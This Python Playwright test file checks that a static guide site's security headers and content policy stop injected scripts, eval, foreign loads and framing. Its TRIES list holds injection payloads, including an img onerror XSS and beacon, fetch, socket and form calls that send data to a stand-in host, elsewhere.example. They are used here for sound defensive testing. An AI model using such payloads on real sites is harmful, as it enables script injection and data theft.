"""The site with the headers that hosts send: everything of ours works, nothing else does."""

import re
from collections.abc import Iterator
from contextlib import contextmanager
from functools import partial
from http.server import ThreadingHTTPServer
from pathlib import Path
from threading import Thread

import pytest
from playwright.sync_api import Browser, Page

from overdue_guide import policy
from overdue_guide.build import build
from tests.browser import chromium
from tests.browser.kinds import kinds_of
from tests.golden_site import options
from tests.test_policy import rules


class _Handler(chromium._Handler):
    """Serves a folder with the headers that its ``_headers`` asks for."""

    def end_headers(self) -> None:
        text = (Path(self.directory) / policy.HEADERS_FILE).read_text("utf-8")
        for pattern, values in rules(text):
            if pattern.fullmatch(self.path.partition("?")[0]):
                for name, value in values.items():
                    self.send_header(name, value)
        super().end_headers()


@contextmanager
def served(folder: Path) -> Iterator[str]:
    server = ThreadingHTTPServer(("127.0.0.1", 0), partial(_Handler, directory=str(folder)))
    server.daemon_threads = True
    Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_address[1]}/"
    server.shutdown()
    server.server_close()


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("headers")
    build(options(folder, base_url="http://127.0.0.1/"))
    return folder / "site"


@pytest.fixture(scope="module")
def address(site: Path) -> Iterator[str]:
    with served(site) as found:
        yield found


def test_every_kind_of_page_works_under_its_headers(site: Path, address: str, desk: Page) -> None:
    for path in kinds_of(site):
        desk.goto(address + path)
    desk.wait_for_timeout(300)
    # Whatever a policy stops is said on the console, and desk fails then.


def test_a_term_opens_and_search_finds(address: str, desk: Page) -> None:
    desk.goto(address + "search/?q=%E5%AE%B6%E4%BA%BA")
    desk.wait_for_selector("#search-status[data-state=done]")
    assert desk.locator("#search-results > li").count()
    desk.goto(address + "letters/stop/")
    desk.evaluate(
        """() => {
          const link = document.createElement("a");
          link.className = "term";
          link.href = "../../glossary/#" + encodeURIComponent("爆通讯录");
          document.querySelector("article p").append(link);
          link.click();
        }"""
    )
    desk.wait_for_selector(".cite-pop")


def test_the_worker_is_installed(browser: Browser, address: str) -> None:
    context = browser.new_context()
    page = context.new_page()
    said: list[str] = []
    page.on("console", lambda message: said.append(message.text))
    page.goto(address)
    page.evaluate("navigator.serviceWorker.ready.then(() => true)")
    context.close()
    assert [] == said


TRIES = {
    "inline script": """() => { const one = document.createElement("script");
        one.append("globalThis.ran = 1"); document.head.append(one); }""",
    "inner markup": "() => { document.body.innerHTML = '<img src=x onerror=\"globalThis.ran = 1\">'; }",
    "a document of its own": "() => new DOMParser().parseFromString('<p>', 'text/html')",
    "a handler": "() => document.body.setAttribute('onclick', 'globalThis.ran = 1')",
    "evaluation": "() => eval('globalThis.ran = 1')",
    "a function of text": "() => new Function('globalThis.ran = 1')()",
    "a timer of text": "() => setTimeout('globalThis.ran = 1')",
    "a foreign script": "() => { document.head.append(document.createElement('script')); document.head.lastChild.src = 'https://elsewhere.example/a.js'; }",
    "another worker": "() => navigator.serviceWorker.register('other.js')",
    "another policy": "() => trustedTypes.createPolicy('other', { createScript: (text) => text })",
    "a foreign picture": "() => new Promise((yes, no) => { const one = new Image(); one.onload = yes; one.onerror = no; one.src = 'https://elsewhere.example/a.png'; })",
    "a foreign answer": "() => fetch('https://elsewhere.example/')",
    "a beacon": "() => { if (navigator.sendBeacon('https://elsewhere.example/', 'a')) throw 1; throw 0; }",
    "a socket": "() => new Promise((yes, no) => { const one = new WebSocket('wss://elsewhere.example/'); one.onopen = yes; one.onerror = no; })",
    "a frame": "() => new Promise((yes, no) => { addEventListener('securitypolicyviolation', no); const one = document.createElement('iframe'); one.src = 'https://elsewhere.example/'; document.body.append(one); })",
    "a style": "() => { const one = document.createElement('style'); one.append('body { color: rgb(1, 2, 3) }'); document.head.append(one); if (getComputedStyle(document.body).color === 'rgb(1, 2, 3)') return; throw 0; }",
    "a form to elsewhere": "() => new Promise((yes, no) => { addEventListener('securitypolicyviolation', no); const one = document.createElement('form'); one.action = 'https://elsewhere.example/'; document.body.append(one); one.submit(); })",
    "another base": "() => { const one = document.createElement('base'); one.href = 'https://elsewhere.example/'; document.head.append(one); if (document.baseURI.includes('elsewhere')) return; throw 0; }",
}


@pytest.fixture(scope="module")
def bare(browser: Browser, golden: str) -> Iterator[Page]:
    """A page whose only protection is what it carries itself."""
    context = browser.new_context()
    gone: list[str] = []
    page = context.new_page()
    page.on("requestfinished", lambda request: gone.append(request.url))
    page.goto(golden + "contact/family/")
    yield page
    context.close()
    assert [] == [url for url in gone if "elsewhere" in url]


@pytest.mark.parametrize("name", TRIES)
def test_a_page_stops_what_is_not_ours_by_itself(bare: Page, golden: str, name: str) -> None:
    bare.goto(golden + "contact/family/")
    # In a task of its own: while a driver evaluates, Chromium lets text be run.
    tried = bare.evaluate(
        f"""async () => {{
          await new Promise((then) => setTimeout(then));
          try {{ await ({TRIES[name]})(); return "done"; }} catch {{ return "stopped"; }}
        }}"""
    )
    bare.wait_for_timeout(20)
    assert not bare.evaluate("'ran' in globalThis")
    assert "stopped" == tried or name == "inline script"


def test_a_page_where_readers_write_cannot_even_ask_its_own_site(bare: Page, golden: str) -> None:
    bare.goto(golden + "letters/stop/")
    asked = "() => fetch('../../robots.txt').then(() => 'answered', () => 'stopped')"
    assert "stopped" == bare.evaluate(asked)
    bare.goto(golden + "contact/family/")
    assert "answered" == bare.evaluate(asked)


def test_no_other_page_can_frame_ours(browser: Browser, address: str, tmp_path: Path) -> None:
    (tmp_path / "index.html").write_text(f'<iframe src="{address}"></iframe>')
    context = browser.new_context()
    page = context.new_page()
    with chromium.served(tmp_path) as elsewhere:
        page.goto(elsewhere)
        page.wait_for_load_state("networkidle")
        assert not any(re.match(address, frame.url) for frame in page.frames)
    context.close()
